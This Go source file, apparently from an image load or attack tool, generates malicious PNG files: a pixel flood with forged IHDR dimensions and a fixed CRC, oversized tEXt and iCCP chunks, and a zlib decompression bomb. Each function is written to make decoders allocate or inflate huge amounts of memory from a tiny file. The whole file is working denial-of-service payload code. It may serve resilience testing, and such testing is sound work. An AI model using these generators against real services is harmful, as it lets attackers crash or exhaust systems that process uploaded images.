package dos

import (
	"bytes"
	"encoding/binary"
	"errors"
	"hash/crc32"

	"github.com/klauspost/compress/zlib"

	"loadimg/internal/img"
	"loadimg/internal/minimg"
)

var errNoIHDR = errors.New("png template has no IHDR chunk")

// pixelFlood rewrites the template's IHDR width and height to huge values
// while leaving the pixel data alone. Decoders that size buffers from the
// declared dimensions before seeing any pixel data allocate gigabytes for a
// file of a few hundred bytes.
func pixelFlood(t *img.Image, o Options) ([]byte, error) {
	o = o.withDefaults()
	p, err := pngTemplate(t)
	if err != nil {
		return nil, err
	}
	out := append([]byte(nil), p.Data...)
	for _, s := range p.Segments {
		if s.Type != "IHDR" || s.Length < 8 {
			continue
		}
		binary.BigEndian.PutUint32(out[s.Start+8:], o.FloodWidth)
		binary.BigEndian.PutUint32(out[s.Start+12:], o.FloodHeight)
		crc := crc32.ChecksumIEEE(out[s.Start+4 : s.Start+8+s.Length])
		binary.BigEndian.PutUint32(out[s.Start+8+s.Length:], crc)
		return out, nil
	}
	return nil, errNoIHDR
}

// longBodyPNG splices one oversized but fully chunk-valid tEXt chunk into the
// template, inflating the file while keeping every length field and CRC
// consistent.
func longBodyPNG(t *img.Image, o Options) ([]byte, error) {
	o = o.withDefaults()
	p, err := pngTemplate(t)
	if err != nil {
		return nil, err
	}
	data := make([]byte, 0, len("Comment")+1+o.TextFill)
	data = append(data, "Comment"...)
	data = append(data, 0)
	data = append(data, bytes.Repeat([]byte{'A'}, o.TextFill)...)
	return insertChunk(p, "tEXt", data), nil
}

// colorProfile splices an iCCP chunk with a large declared length. The
// profile bytes are junk; targets that trust the length and inflate or hash
// the profile do the work anyway.
func colorProfile(t *img.Image, o Options) ([]byte, error) {
	o = o.withDefaults()
	p, err := pngTemplate(t)
	if err != nil {
		return nil, err
	}
	size := o.ProfileSize
	if size < 10 {
		size = 10
	}
	data := make([]byte, size)
	copy(data, "Profile")
	// data[7] is the keyword terminator, data[8] the compression method;
	// the rest stays zero.
	return insertChunk(p, "iCCP", data), nil
}

// bomb builds a PNG from scratch: IHDR declaring bomb-sized dimensions and a
// single IDAT holding maximally compressible zeros, for the worst possible
// decode-time-to-file-size ratio.
func bomb(t *img.Image, o Options) ([]byte, error) {
	o = o.withDefaults()
	var out []byte
	if t != nil && t.Format == img.PNG {
		out = append(out, t.Data[:8]...)
	} else {
		out = img.PNGSig()
	}
	out = img.AppendChunk(out, "IHDR", minimg.IHDRData(o.BombWidth, o.BombHeight, 8, 2))

	var zb bytes.Buffer
	zw, err := zlib.NewWriterLevel(&zb, zlib.BestCompression)
	if err != nil {
		return nil, err
	}
	zeros := make([]byte, 64<<10)
	for n := o.BombRaw; n > 0; n -= len(zeros) {
		chunk := zeros
		if n < len(chunk) {
			chunk = zeros[:n]
		}
		if _, err := zw.Write(chunk); err != nil {
			return nil, err
		}
	}
	if err := zw.Close(); err != nil {
		return nil, err
	}
	out = img.AppendChunk(out, "IDAT", zb.Bytes())
	out = img.AppendChunk(out, "IEND", nil)
	return out, nil
}

// insertChunk places a freshly built chunk immediately before IDAT, or before
// IEND when the template has no IDAT, or at the end of the buffer as a last
// resort.
func insertChunk(p *img.Image, typ string, data []byte) []byte {
	off := len(p.Data)
	for _, s := range p.Segments {
		if s.Type == "IDAT" {
			off = s.Start
			break
		}
		if s.Type == "IEND" {
			off = s.Start
		}
	}
	chunk := img.AppendChunk(nil, typ, data)
	out := make([]byte, 0, len(p.Data)+len(chunk))
	out = append(out, p.Data[:off]...)
	out = append(out, chunk...)
	out = append(out, p.Data[off:]...)
	return out
}
